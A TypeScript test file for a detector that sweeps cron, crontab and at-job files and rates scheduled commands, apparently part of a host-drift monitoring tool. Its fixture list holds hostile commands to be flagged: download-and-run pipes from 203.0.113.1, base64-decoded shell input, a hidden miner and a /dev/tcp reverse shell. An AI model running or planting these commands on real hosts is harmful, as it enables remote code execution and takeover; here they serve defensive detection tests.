import assert from 'node:assert/strict';
import { test } from 'node:test';

import {
  atOnce,
  changedItems,
  FixtureHost,
  onChange,
  SHELLS,
  sweepFixture,
  type Entry,
} from '../drift/probe-fixture.ts';
import { checks } from './index.ts';

const CRONTAB = 'SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n';
const HOST: Record<string, Entry> = {
  '/etc/passwd': 'root:x:0:0:root:/root:/bin/bash\n',
  '/etc/crontab': CRONTAB,
  '/var/spool/cron/crontabs/ann':
    '# m h dom\n*/5 * * * * /home/ann/backup.sh >> /tmp/backup.log 2>&1\n',
};
/** Commands that ordinary hosts schedule: none may be told at once. */
const ORDINARY = [
  '/usr/bin/certbot -q renew --deploy-hook "systemctl reload nginx"',
  'test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e "sleep int(rand(43200))" && certbot -q renew',
  'curl -fsS -m 10 https://hc-ping.com/uuid > /dev/null',
  'curl -s https://example.org/api | python3 -m json.tool > /var/www/api.json',
  'wget -qO- http://localhost/cron.php | grep -q ok',
  'find /tmp -name "*.tmp" -mtime +7 -delete',
  'flock -n /tmp/sync.lock /usr/local/bin/sync.sh',
  'cp -r . /tmp/backup && tar czf /var/tmp/x.tgz /etc',
  '[ -x /tmp/x ] || touch /tmp/y; rm -rf "/var/tmp/cache"',
  'TMPDIR=/var/tmp /usr/bin/backup --temp=/tmp/work',
  'pg_dump db | gzip | base64 > /backup/db.b64',
  'echo aGk= | base64 -d > /etc/motd',
  'cp /bin/sh /srv/jail/bin; mv install.sh /tmp/old.sh',
  '(echo > /dev/tcp/db/5432) 2>/dev/null && /usr/local/bin/migrate',
  'bash /home/ann/tmp/job.sh',
];
const LOUD: readonly (readonly [string, string])[] = [
  ['/tmp/evil.sh', 'scratch-command'],
  ['nohup /var/tmp/.x/miner -o pool >/dev/null 2>&1 &', 'scratch-command'],
  ['cd / && sh -x "/dev/shm/a"', 'scratch-command'],
  ['FOO=1 BAR=2 /run/user/1000/a', 'scratch-command'],
  ['sudo -u www-data python3 /tmp/a.py', 'scratch-command'],
  ['true; if [ -f /tmp/a ]; then /tmp/a; fi', 'scratch-command'],
  ['/bin/sh -c "/tmp/a"', 'scratch-command'],
  ['curl -fsSL http://203.0.113.1/x.sh | bash', 'download-to-shell'],
  ['wget -q -O - http://203.0.113.1/x | sudo sh -s -- -a', 'download-to-shell'],
  ['bash -c "$(curl -fsSL http://203.0.113.1/x)"', 'download-to-shell'],
  ['bash <(curl -s http://203.0.113.1/x)', 'download-to-shell'],
  ['curl http://203.0.113.1/x.py|python3 -', 'download-to-shell'],
  ['echo Y3VybA== | base64 -d | sh', 'encoded-to-shell'],
  ['echo Y3VybA== | base64 --decode | /bin/bash', 'encoded-to-shell'],
  ["bash -c 'bash -i >& /dev/tcp/203.0.113.1/4444 0>&1'", 'socket-redirection'],
];

for (const shell of SHELLS) {
  test(`scheduled under ${shell.name}`, async (t) => {
    using host = new FixtureHost(HOST);
    const learned = sweepFixture(host, { checks, shell });
    const sweep = (change: Record<string, Entry>) => {
      using changed = new FixtureHost({ ...HOST, ...change });
      return sweepFixture(changed, { checks, shell });
    };

    await t.test('an ordinary host says nothing', () => {
      assert.equal(learned.items.length, 2);
      assert.deepEqual(learned.items.flatMap(atOnce), []);
      assert.deepEqual(learned.gaps, []);
      assert.deepEqual(changedItems(learned, sweepFixture(host, { checks, shell })), []);
    });

    await t.test('ordinary commands are only drift', () => {
      const entries = ORDINARY.map((command, at): [string, Entry] => [
        `/etc/cron.d/n${at}`,
        `5 4 * * 1 root ${command}\n`,
      ]);
      const scripts = ORDINARY.map((command, at): [string, Entry] => [
        `/etc/cron.daily/n${at}`,
        `#!/bin/sh\n${command}\n`,
      ]);
      const { items } = sweep(Object.fromEntries([...entries, ...scripts]));
      assert.equal(items.length, 2 + 2 * ORDINARY.length);
      assert.deepEqual(
        items.filter((item) => atOnce(item).length > 0).map(({ facts }) => facts.get('line')),
        [],
      );
    });

    await t.test('commands that nobody schedules are told at once', () => {
      const tables = LOUD.map(([command], at): [string, Entry] => [
        `/etc/cron.d/l${String(at).padStart(2, '0')}`,
        `${at % 2 === 0 ? '*/5 * * * *' : '@reboot'} root ${command}\n`,
      ]);
      const { items } = sweep(Object.fromEntries(tables));
      const told = items.filter(({ key }) => key.startsWith('/etc/cron.d/'));
      assert.deepEqual(
        told.map(({ evidence }) => evidence.join()),
        LOUD.map(([, code]) => code),
      );
      assert.deepEqual(new Set(told.flatMap(atOnce)), new Set(['cron-file:high']));
    });

    await t.test('a comment is no command, a user table has no user', () => {
      const { items } = sweep({
        '/etc/cron.d/c': '# 1 * * * * root /tmp/evil\n',
        '/var/spool/cron/crontabs/bob': '* * * * * /tmp/evil.sh\n',
        '/var/spool/at/a000010': '#!/bin/sh\ncd /root || exit 1\n/tmp/evil\n',
      });
      assert.deepEqual(
        items.flatMap((item) => atOnce(item).map((verdict) => `${item.key} ${verdict}`)),
        ['/var/spool/cron/crontabs/bob cron-file:high', '/var/spool/at/a000010 at-job:high'],
      );
    });

    await t.test('new, changed and re-permitted files are drift; touched ones are not', () => {
      const drift = (change: Record<string, Entry>) =>
        changedItems(learned, sweep(change)).flatMap(onChange);
      assert.deepEqual(drift({ '/etc/cron.d/new': '5 4 * * 1 root /usr/bin/true\n' }), [
        'cron-file:medium',
      ]);
      assert.deepEqual(drift({ '/etc/crontab': { content: CRONTAB, mode: 0o666 } }), [
        'cron-file:medium',
      ]);
      assert.deepEqual(drift({ '/etc/crontab': CRONTAB }), []);
    });

    await t.test('a name that would break the line is counted, not lost', () => {
      const { gaps, items } = sweep({
        '/etc/cron.d/a\nb': 'x',
        '/etc/cron.d/sp ace\\n%41*': '1 1 1 1 1 root true\n',
      });
      assert.deepEqual(gaps, ['cron-file blind 1 file names hold a line break or tab']);
      assert.ok(
        items.some(
          ({ key, value }) => key === '/etc/cron.d/sp ace\\n%41*' && /^[0-9a-f]{64}:/.test(value),
        ),
      );
    });
  });
}

test(
  'a user without root is told what could not be seen',
  { skip: process.getuid?.() === 0 ? false : 'needs root, to become another user' },
  () => {
    using host = new FixtureHost({
      ...HOST,
      '/etc/cron.d/a': { content: 'x', mode: 0o600 },
      '/etc/cron.d/b': { content: 'x', mode: 0o600 },
    });
    const { gaps } = sweepFixture(host, { checks, shell: SHELLS[0], uid: 65534 });
    assert.deepEqual(gaps, ['cron-file blind 2 places could not be read']);
  },
);
